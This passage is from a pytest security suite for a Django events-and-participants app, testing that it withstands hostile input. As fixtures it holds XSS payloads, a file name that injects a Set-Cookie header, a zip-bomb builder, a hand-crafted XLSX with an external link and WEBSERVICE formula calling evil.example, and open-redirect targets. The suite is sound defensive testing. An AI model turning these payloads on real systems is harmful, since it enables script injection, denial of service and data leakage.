        actor=people["focal"],
        event=Event.objects.get(pk=pk),
        rows=[
            {
                "sex": "women",
                "age": 30,
                "organisation_or_position": XSS[:200],
                "name": XSS[:200],
                "consent": "yes",
            }
        ],
    )
    pages = [
        "/events/?plan=az-2020-2023",
        f"/events/{pk}/",
        f"/events/{pk}/edit/",
        f"/events/{pk}/delete/",
        f"/events/{pk}/participants/",
        f"/events/{pk}/participants/import/",
        f"/events/{pk}/participants/clear/",
        f"/events/{pk}/counts/",
    ]
    for role in ("focal", "coordinator", "evaluator"):
        sign_in(client, people[role])
        for url in pages:
            response = client.get(url, headers={"HX-Request": "true"} if url.startswith("/events/?") else {})
            html = body(response)
            assert "<script>alert" not in html and "<img src=x" not in html, (role, url)
        html = body(client.get(f"/events/{pk}/"))
        if role != "evaluator":
            assert "&lt;script&gt;alert(" in html


def test_scripts_in_file_names_cells_and_problems_are_escaped(client, people, world) -> None:
    """A file named like markup (and with quotes and line breaks for the header), a pasted cell that is
    markup: the page, the message and the download header escape or clean them."""
    a = world["a"]
    sign_in(client, people["focal"])
    name = '<img src=x onerror=alert(1)>"\r\nSet-Cookie: x=1;.pdf'
    response = client.post(
        f"/events/{a.pk}/files/", {"file": _named(PDF, name), "purpose": "agenda"}, follow=True
    )
    html = body(response)
    assert response.status_code == 200
    assert "<img src=x" not in html and "&lt;img src=x" in html
    stored = EventFile.objects.filter(event=a).order_by("-id").first()
    download = client.get(f"/events/{a.pk}/files/{stored.pk}/")
    disposition = download["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition and "x" not in download.cookies
    assert disposition.startswith("attachment")
    pasted = client.post(
        f"/events/{a.pk}/participants/import/", {"text": "sex,age\n<script>alert(1)</script>,20\n"}
    )
    assert pasted.status_code == 400
    html = body(pasted)
    assert "<script>alert(1)" not in html and "&lt;script&gt;alert(1)" in html
    header = client.post(
        f"/events/{a.pk}/participants/import/", {"text": "sex,<b onmouseover=alert(1)>\nwomen,20\n"}
    )
    assert "<b onmouseover" not in body(header)


def test_the_api_answers_json_never_html(people, world) -> None:
    api = token_client(people["focal"])
    for url in (f"/api/v1/events/{world['a'].pk}/", f"/api/v1/events/{world['a'].pk}/participants/"):
        response = api.get(url)
        assert response["Content-Type"].startswith("application/json")
        assert response["X-Content-Type-Options"] == "nosniff"


# === 7. Files that lie ======================================================================================

CT = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b"</Types>"
)
RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    b"</Relationships>"
)
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>'
    b'<externalReferences><externalReference r:id="rId9"/></externalReferences></workbook>'
)
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
    b"</Relationships>"
)
EXTERNAL_LINK = (
    b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
)
EXTERNAL_LINK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
    b'Target="http://evil.example/book.xlsx" TargetMode="External"/></Relationships>'
)


def sheet_xml(rows: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{rows}</sheetData></worksheet>"
    ).encode()


def raw_xlsx(sheet: bytes, shared: list[str] | None = None, *, links: bool = False) -> bytes:
    """An XLSX written by hand, so that it can hold what a spreadsheet program would not write."""
    strings = "".join(f"<si><t>{s}</t></si>" for s in shared or [])
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CT)
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr(
            "xl/sharedStrings.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{strings}</sst>',
        )
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        if links:
            archive.writestr("xl/externalLinks/externalLink1.xml", EXTERNAL_LINK)
            archive.writestr("xl/externalLinks/_rels/externalLink1.xml.rels", EXTERNAL_LINK_RELS)
    return out.getvalue()


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def test_formulas_and_external_links_are_read_as_values_never_run(client, people, world) -> None:
    """An XLSX whose cells are formulas (one to an external workbook, one WEBSERVICE call): the import
    takes the values the file last saved (its cached values) and runs nothing; a cached value that is
    itself a formula is neutralised in the export."""
    rows = (
        f'<row r="1">{inline("A1", "sex")}{inline("B1", "age")}{inline("C1", "organisation_or_position")}</row>'
        '<row r="2"><c r="A2" t="str"><f>[1]Sheet1!A1</f><v>women</v></c><c r="B2"><f>WEBSERVICE("http://evil.example/")</f><v>34</v></c>'
        '<c r="C2" t="str"><f>"="&amp;"1+1"</f><v>=1+1</v></c></row>'
        '<row r="3"><c r="A3" t="s"><v>0</v></c><c r="B3"><f>1+1</f></c></row>'
    )
    content = raw_xlsx(sheet_xml(rows), ["men"], links=True)
    sign_in(client, people["focal"])
    event = world["b"]
    Participant.objects.filter(event=event).delete()
    response = client.post(
        f"/events/{event.pk}/participants/import/", {"file": _named(content, "linked.xlsx")}
    )
    # Row 3's age is a formula without a saved value: nothing to read, so the row is refused whole.
    assert response.status_code == 400
    assert "<code>rows[3].age</code>" in body(response)
    sheet = sheet_xml(rows.replace("<f>1+1</f></c>", "<f>1+1</f><v>22</v></c>"))
    response = client.post(
        f"/events/{event.pk}/participants/import/",
        {"file": _named(raw_xlsx(sheet, ["men"], links=True), "linked.xlsx")},
    )
    assert response.status_code == 302, body(response)[:2000]
    assert sorted(Participant.objects.filter(event=event).values_list("sex", "age", "affiliation")) == [
        ("men", 22, ""),
        ("women", 34, "=1+1"),
    ]
    sign_in(client, people["coordinator"])
    export = body(client.get(f"/events/{event.pk}/participants/export.csv"))
    assert "'=1+1" in export and ",=1+1" not in export


def test_an_event_file_that_lies_about_its_type(client, people, world) -> None:
    """HTML and SVG are refused whatever their name (they could carry scripts); a PDF with HTML inside,
    named .html, is sent as a PDF attachment named .pdf; a PDF named .txt is sent named .pdf; nothing
    can run in the browser (nosniff, attachment, private)."""
    sign_in(client, people["focal"])
    a = world["a"]
    before = snapshot()
    for content, name in (
        (b"<html><body><script>alert(document.cookie)</script></body></html>", "agenda.pdf"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "agenda.txt"),
        (b"Agenda\n<script>alert(1)</script>\n", "agenda.txt"),
    ):
        refused = client.post(f"/events/{a.pk}/files/", {"file": _named(content, name), "purpose": "agenda"})
        assert refused.status_code == 400
        assert "is a web page or an SVG image" in body(refused)
    assert snapshot() == before
    polyglot = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n"
    for content, name, kind, sent_as in (
        (polyglot, "agenda.html", "application/pdf", "agenda.pdf"),
        (polyglot, "agenda.txt", "application/pdf", "agenda.pdf"),
        (b"Agenda: 10:00 opening", "agenda.pdf", "text/plain", "agenda.txt"),
    ):
        assert (
            client.post(
                f"/events/{a.pk}/files/", {"file": _named(content, name), "purpose": "agenda"}
            ).status_code
            == 302
        )
        stored = EventFile.objects.filter(event=a).order_by("-id").first()
        download = client.get(f"/events/{a.pk}/files/{stored.pk}/")
        assert download["Content-Type"].startswith(kind)
        assert download["Content-Disposition"] == f'attachment; filename="{sent_as}"'
        assert download["X-Content-Type-Options"] == "nosniff"
        assert download["Cache-Control"] == "private, no-store"
    # An executable named .pdf is refused.
    before = snapshot()
    refused = client.post(
        f"/events/{a.pk}/files/",
        {"file": _named(b"MZ\x90\x00\x03" + b"\x00" * 100, "agenda.pdf"), "purpose": "agenda"},
    )
    assert refused.status_code == 400
    assert snapshot() == before


def zip_bomb(*, member: str = "xl/worksheets/sheet1.xml", size: int = 300 * 1024 * 1024) -> bytes:
    """An office archive that unpacks to ``size`` bytes of one repeated byte (about 300 KB packed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CT)
        with archive.open(member, "w", force_zip64=True) as target:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(size // len(chunk)):
                target.write(chunk)
    return out.getvalue()


def test_a_zip_bomb_is_refused_by_the_import_and_the_event_files(client, people, world) -> None:
    bomb = zip_bomb()
    assert len(bomb) < 1024 * 1024
    sign_in(client, people["focal"])
    a = world["a"]
    before = snapshot()
    imported = client.post(f"/events/{a.pk}/participants/import/", {"file": _named(bomb, "list.xlsx")})
    assert imported.status_code == 400
    assert "unpacks to more than 200 MB" in body(imported)
    file_refused = client.post(
        f"/events/{a.pk}/files/", {"file": _named(bomb, "agenda.xlsx"), "purpose": "agenda"}
    )
    assert file_refused.status_code == 400
    # Named for what it is, not as "not a PDF, image, office document or text file".
    assert "“agenda.xlsx” unpacks to more than 200 MB" in body(file_refused)
    api = token_client(people["focal"])
    assert (
        api.post(
            f"/api/v1/events/{a.pk}/participants/", {"file": _named(bomb, "list.xlsx")}, format="multipart"
        ).status_code
        == 400
    )
    assert snapshot() == before


def _read_in_a_child(
    content: bytes, name: str, tmp_path: Path, memory: int = 2 * 1024**3
) -> subprocess.CompletedProcess:
    """``read_table(name, content)`` in a child process with at most ``memory`` bytes of address space,
    so that a file that would take all the memory (or abort the interpreter) fails the test instead of
    the test run."""
    path = tmp_path / name
    path.write_bytes(content)
    code = (
        "import resource, sys, django\n"
        f"resource.setrlimit(resource.RLIMIT_AS, ({memory}, {memory}))\n"
        "django.setup()\n"
        "from wpsnap.core.errors import InvalidInput\n"
        "from wpsnap.core.tables import read_table\n"
        "try:\n"
        f"    table = read_table({name!r}, open({str(path)!r}, 'rb').read())\n"
        "    print('read', sum(1 for _ in table.rows))\n"
        "except InvalidInput as e:\n"
        "    print('refused', *e.problems)\n"
    )
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "config.settings.test"}
    return subprocess.run(
        [sys.executable, "-c", code],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


SPARSE = sheet_xml(
    f'<row r="1">{inline("A1", "sex")}{inline("B1", "age")}</row>'
    f'<row r="1048576">{inline("XFD1048576", "women")}</row>'
)
# One 200 KB string, used by 4,000 cells: 800 MB once every cell has its own copy.
AMPLIFIED = sheet_xml(
    f'<row r="1">{inline("A1", "sex")}{inline("B1", "age")}</row>'
    + "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(2, 4002))
)
ODS_CONTENT = (
    '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'office:version="1.2"><office:body><office:spreadsheet><table:table table:name="S">'
    '<table:table-row><table:table-cell office:value-type="string"><text:p>sex</text:p></table:table-cell></table:table-row>'
    '<table:table-row table:number-rows-repeated="100000"><table:table-cell table:number-columns-repeated="100" '
    'office:value-type="string"><text:p>women</text:p></table:table-cell></table:table-row>'
    "</table:table></office:spreadsheet></office:body></office:document-content>"
)


def ods(content: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
        )
        archive.writestr("content.xml", content)
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("sparse.xlsx", raw_xlsx(SPARSE)),
        ("shared.xlsx", raw_xlsx(AMPLIFIED, ["W" * 200_000])),
        ("repeated.ods", ods(ODS_CONTENT)),
    ],
    ids=["two-cells-a-whole-sheet-apart", "one-string-in-4000-cells", "ods-repeated-cells"],
)
def test_a_small_spreadsheet_that_unpacks_to_gigabytes_is_refused(tmp_path, name, content) -> None:
    """Spreadsheets of a few kilobytes, well within the archive checks (they unpack to less than 1 MB),
    that the spreadsheet reader would spread over gigabytes: two cells at A1 and XFD1048576 (550 GB of
    cells: the interpreter aborts), one long shared string in 4,000 cells (800 MB), an ODS row of 100
    cells repeated 100,000 times. Each is refused with a message naming the file, in a child limited to 2 GB."""
    assert len(content) < 50_000
    done = _read_in_a_child(content, name, tmp_path)
    assert done.returncode == 0, (done.returncode, done.stderr[-2000:])
    assert done.stdout.startswith("refused file:"), done.stdout


def test_a_large_honest_spreadsheet_is_still_read(tmp_path) -> None:
    """The guard against spreadsheets that unpack to gigabytes lets an ordinary list through: 20,000
    rows written by a spreadsheet program (shared strings, numbers)."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("participants")
    sheet.append(["sex", "age", "district", "organisation_or_position"])
    for n in range(20_000):
        sheet.append(["women" if n % 2 else "men", 18 + n % 60, "baku", f"School {n % 300}"])
    out = io.BytesIO()
    book.save(out)
    done = _read_in_a_child(out.getvalue(), "honest.xlsx", tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip() == "read 20000"


def test_a_participant_file_too_large_is_refused_without_reading_it(client, people, world, settings) -> None:
    settings.WPSNAP_PARTICIPANTS_MAX_BYTES = 10_000
    sign_in(client, people["focal"])
    before = snapshot()
    big = ("sex,age\n" + "women,23\n" * 2000).encode()
    response = client.post(f"/events/{world['a'].pk}/participants/import/", {"file": _named(big, "big.csv")})
    assert response.status_code == 400
    assert "larger than" in body(response)
    assert snapshot() == before


# === 8. Locked periods on every write route =================================================================


@pytest.fixture
def locked(world, events_plan, report):
    """2021 approved and locked: A, B, the joint training and the campaign (all 2021) no longer change."""
    events_plan.reporting_periods.filter(label="2021").update(locked_at=timezone.now())
    return world


def test_every_page_write_is_refused_in_a_locked_period(client, people, locked, events_plan) -> None:
    a, counted = locked["a"], locked["counted"]
    sign_in(client, people["focal"])
    before = snapshot()
    writes = [
        (f"/events/{a.pk}/edit/", _edit_form(a)),
        (f"/events/{a.pk}/edit/", _edit_form(a, starts_on="2022-03-10", ends_on="2022-03-11")),
        (f"/events/{a.pk}/delete/", {}),
        (f"/events/{counted.pk}/counts/", {"n-sex-women--age-18-24": "9"}),
        (f"/events/{a.pk}/files/", {"file": _named(PDF, "late.pdf"), "purpose": "agenda"}),
        (f"/events/{a.pk}/files/{locked['file_a'].pk}/delete/", {}),
        (f"/events/{a.pk}/participants/import/", {"text": ROWS}),
        (
            f"/events/{a.pk}/participants/import/",
            {"file": _named(ROWS.encode(), "list.csv"), "replace": "on"},
        ),
        (f"/events/{a.pk}/participants/clear/", {}),
    ]
    answers = {url: client.post(url, data).status_code for url, data in writes}
    assert set(answers.values()) == {409}, answers
    # The one-participant removal redirects with the message (a POST-redirect-GET): nothing removed.
    response = client.post(f"/events/{a.pk}/participants/{locked['pa'].pk}/delete/", follow=True)
    assert "locked" in body(response)
    # Moving a 2022 event into the locked year, and creating one there.
    later = _event(events_plan, people["focal"], a.activities.get(), title="Later", year=2022)
    before = snapshot()
    assert client.post(f"/events/{later.pk}/edit/", _edit_form(later)).status_code == 409
    assert (
        client.post(f"/events/new/?plan={events_plan.slug}", _edit_form(a, title="Back-dated")).status_code
        == 409
    )
    assert snapshot() == before


def test_every_api_write_is_refused_in_a_locked_period(people, locked, events_plan) -> None:
    api = token_client(people["focal"])
    a, counted = locked["a"], locked["counted"]
    before = snapshot()
    e = f"/api/v1/events/{a.pk}/"
    answers = [
        api.patch(e, {"title": "x"}, format="json"),
        api.patch(e, {"starts_on": "2022-01-10", "ends_on": "2022-01-10"}, format="json"),
        api.put(
            e,
            {
                "kind": "training",
                "title": "x",
                "starts_on": "2021-03-10",
                "ends_on": "2021-03-10",
                "activities": ["5.1.2.3"],
            },
            format="json",
        ),
        api.delete(e),
        api.post(e + "participants/", {"rows": [{"sex": "women", "age": 20}]}, format="json"),
        api.post(
            e + "participants/", {"file": _named(ROWS.encode(), "l.csv"), "replace": True}, format="multipart"
        ),
        api.delete(e + f"participants/{locked['pa'].pk}/"),
        api.put(
            f"/api/v1/events/{counted.pk}/counts/", {"counts": {"sex:women|age:18-24": "1"}}, format="json"
        ),
        api.post(
            "/api/v1/events/",
            {
                "kind": "training",
                "title": "x",
                "starts_on": "2021-05-01",
                "ends_on": "2021-05-01",
                "activities": ["5.1.2.3"],
            },
            format="json",
        ),
    ]
    assert [r.status_code for r in answers] == [409] * len(answers)
    assert snapshot() == before


def test_the_take_button_and_the_command_respect_the_lock(client, people, locked, report, tmp_path) -> None:
    from wpsnap.reporting.models import IndicatorValue

    before = sorted(IndicatorValue.objects.values_list("report_id", "indicator_id", "cell", "value"))
    indicator = report.activity.indicators.get()
    sign_in(client, people["focal"])
    assert client.post(f"/reports/{report.pk}/take/{indicator.pk}/").status_code == 409
    assert (
        client.post(f"/reports/{report.pk}/take/{indicator.pk}/", headers={"HX-Request": "true"}).status_code
        == 409
    )
    assert sorted(IndicatorValue.objects.values_list("report_id", "indicator_id", "cell", "value")) == before
    path = tmp_path / "l.csv"
    path.write_text(ROWS, encoding="utf-8")
    snap = snapshot()
    with pytest.raises(CommandError, match="locked"):
        call_command(
            "import", "participants", str(path), "--event", str(locked["a"].pk), "--user", "mod-focal"
        )
    assert snapshot() == snap


# === 9. CSRF ================================================================================================


def test_every_post_page_needs_the_csrf_token(people, world, report) -> None:
    """With CSRF checks on (as in a browser), every POST of the events pages and the take button
    without the token is refused with 403, and nothing changes; the API under a session too."""
    client = Client(enforce_csrf_checks=True)
    sign_in(client, people["focal"])
    before = snapshot()
    posts = [(url, data) for method, url, data in _page_attacks(world) if method == "post"]
    posts += [
        ("/events/new/?plan=az-2020-2023", _edit_form(world["a"])),
        (f"/reports/{report.pk}/take/{report.activity.indicators.get().pk}/", {}),
    ]
    answers = {url: _request(client, "post", url, data).status_code for url, data in posts}
    assert set(answers.values()) == {403}, answers
    api = Client(enforce_csrf_checks=True)
    sign_in(api, people["focal"])
    assert (
        api.post(
            f"/api/v1/events/{world['a'].pk}/participants/",
            {"rows": [{"sex": "men", "age": 30}]},
            content_type="application/json",
        ).status_code
        == 403
    )
    assert api.delete(f"/api/v1/events/{world['a'].pk}/").status_code == 403
    assert snapshot() == before
    # The control: the same paste with the page's token is taken (the 403s above were the token's).
    client.get(f"/events/{world['a'].pk}/participants/import/")
    token = client.cookies["csrftoken"].value
    url = f"/events/{world['a'].pk}/participants/import/"
    assert client.post(url, {"text": ROWS, "csrfmiddlewaretoken": token}).status_code == 302


# === 10. Open redirects =====================================================================================


def test_no_redirect_follows_a_next_parameter(client, people, world) -> None:
    """A ``next`` to another site, given to the events' forms and to sign-in from an events page, is
    never followed."""
    a = world["a"]
    sign_in(client, people["focal"])
    evil = "https://evil.example/"
    for url, data in (
        (f"/events/{a.pk}/participants/import/?next={evil}", {"text": ROWS, "next": evil}),
        (f"/events/{a.pk}/edit/?next={evil}", {**_edit_form(a), "next": evil}),
        (f"/events/{a.pk}/participants/{world['pa'].pk}/delete/?next={evil}", {"next": evil}),
    ):
        response = client.post(url, data)
        assert response.status_code == 302
        assert response["Location"].startswith("/events/"), response["Location"]
    anonymous = Client()
    to_login = anonymous.get(f"/events/{a.pk}/participants/")
    assert to_login["Location"].startswith("/accounts/login/?next=/events/")
    for target in (evil, "//evil.example/", "/\\evil.example/"):
        signed = anonymous.post(
            f"/accounts/login/?next={target}",
            {"username": "mod-focal", "password": "a long test passphrase", "next": target},
        )
        assert signed.status_code == 302
        assert "evil.example" not in signed["Location"]
        anonymous.logout()


# === 11. Caching ============================================================================================


def test_participant_pages_and_answers_are_never_cached(client, people, world) -> None:
    """Every page and answer with participants on it, for each reader, and its refusals and problems:
    ``Cache-Control: private, no-store``."""
    a = world["a"].pk
    sign_in(client, people["focal"])
    urls = [
        f"/events/{a}/participants/",
        f"/events/{a}/participants/?page=2",
        f"/events/{a}/participants/import/",
        f"/events/{a}/participants/clear/",
        f"/events/{a}/participants/template.xlsx",
        f"/events/{a}/participants/template.csv",
        f"/events/{a}/participants/export.csv",
        f"/events/{a}/files/{world['file_a'].pk}/",
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"], url
    problems = client.post(f"/events/{a}/participants/import/", {"text": "sex,age\nwomen,250\n"})
    assert problems.status_code == 400 and "no-store" in problems["Cache-Control"]
    removed = client.post(f"/events/{a}/participants/{world['pa'].pk}/delete/")
    assert "no-store" in removed["Cache-Control"]
    for role in ("focal", "approver", "coordinator"):
        listed = token_client(people[role]).get(f"/api/v1/events/{a}/participants/")
        assert "no-store" in listed["Cache-Control"] and "private" in listed["Cache-Control"]


# === 12. Personal data in addresses =========================================================================


def test_no_link_or_form_carries_a_name_or_searches_by_one(client, people, world) -> None:
    """The pages with people on them link and submit nothing with a person's fields in the address,
    and offer no form that sends a name by GET."""
    a = world["a"].pk
    sign_in(client, people["coordinator"])
    for url in (f"/events/{a}/participants/", f"/events/{a}/", f"/events/{a}/participants/import/"):
        html = body(client.get(url))
        for link in re.findall(r'(?:href|action|hx-get|hx-post|src)="([^"]*)"', html):
            assert "Kanareyk" not in link and "Shelter" not in link, link
        for form in re.findall(r"<form\b.*?</form>", html, re.S):
            if 'method="post"' in form.lower():
                continue
            fields = set(re.findall(r'<(?:input|textarea|select)[^>]*name="([^"]+)"', form))
            assert not fields & {"name", "q", "search", "affiliation", "organisation_or_position"}, fields
    assert not AuditEvent.objects.filter(path__icontains="kanareyk").exists()


# === 13. Very large pastes and batches ======================================================================


def test_a_paste_too_large_for_a_request_is_a_clear_400_naming_the_field(people, world, settings) -> None:
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 50_000
    client = Client(enforce_csrf_checks=True)
    sign_in(client, people["focal"])
    client.get(f"/events/{world['a'].pk}/participants/import/")
    token = client.cookies["csrftoken"].value
    before = snapshot()
    response = client.post(
        f"/events/{world['a'].pk}/participants/import/",
        {"csrfmiddlewaretoken": token, "text": "sex,age\n" + "women,23\n" * 10_000},
    )
    assert snapshot() == before
    assert response.status_code == 400
    assert "<code>text</code> What was sent is larger than" in body(response)
    assert "as a file (CSV or Excel)" in body(response)


def test_a_paste_too_large_is_a_400_never_a_500(people, world, settings) -> None:
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 50_000
    client = Client(enforce_csrf_checks=True)
    sign_in(client, people["focal"])
    client.get(f"/events/{world['a'].pk}/participants/import/")
    token = client.cookies["csrftoken"].value
    before = snapshot()
    response = client.post(
        f"/events/{world['a'].pk}/participants/import/",
        {"csrfmiddlewaretoken": token, "text": "sex,age\n" + "women,23\n" * 10_000},
    )
    assert response.status_code == 400
    assert snapshot() == before


def test_an_api_batch_too_large_for_a_request_is_a_413_naming_rows(people, world, settings) -> None:
    """JSON rows over DATA_UPLOAD_MAX_MEMORY_SIZE: 413 in the API's shape, naming ``rows`` and saying
    what to do, not Django's HTML page."""
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 50_000
    before = snapshot()
    response = token_client(people["focal"]).post(
        f"/api/v1/events/{world['a'].pk}/participants/",
        {"rows": [{"sex": "women", "age": 23, "organisation_or_position": "x" * 100}] * 1000},
        format="json",
    )
    assert response.status_code == 413
    [problem] = problems_of(response)
    assert (problem["field"], problem["code"]) == ("rows", "too_large")
    assert "Send the rows in several requests" in problem["message"]
    assert snapshot() == before


def test_many_bad_rows_are_listed_up_to_a_limit(people, world) -> None:
    """5,000 bad rows: at most 200 problems listed and one line for the rest, nothing saved."""
    before = snapshot()
    response = token_client(people["focal"]).post(
        f"/api/v1/events/{world['a'].pk}/participants/",
        {"rows": [{"sex": "x", "age": 999}] * 5000},
        format="json",
    )
    assert response.status_code == 400
    errors = messages_of(response)
    assert len(errors) <= 201 and "more rows" in errors[-1]
    assert snapshot() == before


def test_a_page_size_in_the_query_string_does_not_widen_a_page(people, world) -> None:
    participants_add_rows(actor=people["focal"], event=world["b"], rows=[{"sex": "women", "age": 20}] * 150)
    listed = token_client(people["focal"]).get(
        f"/api/v1/events/{world['b'].pk}/participants/?page_size=100000&limit=100000"
    )
    assert len(listed.json()["results"]) == 100


# === 14. What refusals reveal ===============================================================================


def test_a_refusal_says_the_same_whether_the_event_exists_or_not(client, people, world) -> None:
    """Another agency's event and an id that does not exist answer alike (status, body, headers that
    matter), on pages and in the API."""
    sign_in(client, people["other_focal"])
    missing = Event.objects.order_by("-pk").first().pk + 1000
    api = token_client(people["other_focal"])

    def page(path: str, pk: int) -> tuple[int, str]:
        response = client.get(path.format(pk))
        # Only the (masked, per-response) CSRF token and the address itself may differ.
        text = re.sub(r'name="csrfmiddlewaretoken" value="[^"]*"', "", body(response))
        return response.status_code, text.replace(path.format(pk), path.format("ID"))

    for path in ("/events/{}/participants/", "/events/{}/", "/events/{}/participants/export.csv"):
        assert page(path, world["a"].pk) == page(path, missing)
    for path in ("/api/v1/events/{}/", "/api/v1/events/{}/participants/", "/api/v1/events/{}/counts/"):
        theirs, nothing = api.get(path.format(world["a"].pk)), api.get(path.format(missing))
        assert (theirs.status_code, theirs.json()) == (nothing.status_code, nothing.json())
    theirs = api.delete(f"/api/v1/events/{world['a'].pk}/participants/{world['pa'].pk}/")
    nothing = api.delete(f"/api/v1/events/{world['a'].pk}/participants/{world['pa'].pk + 1000}/")
    assert (theirs.status_code, theirs.json()) == (nothing.status_code, nothing.json())
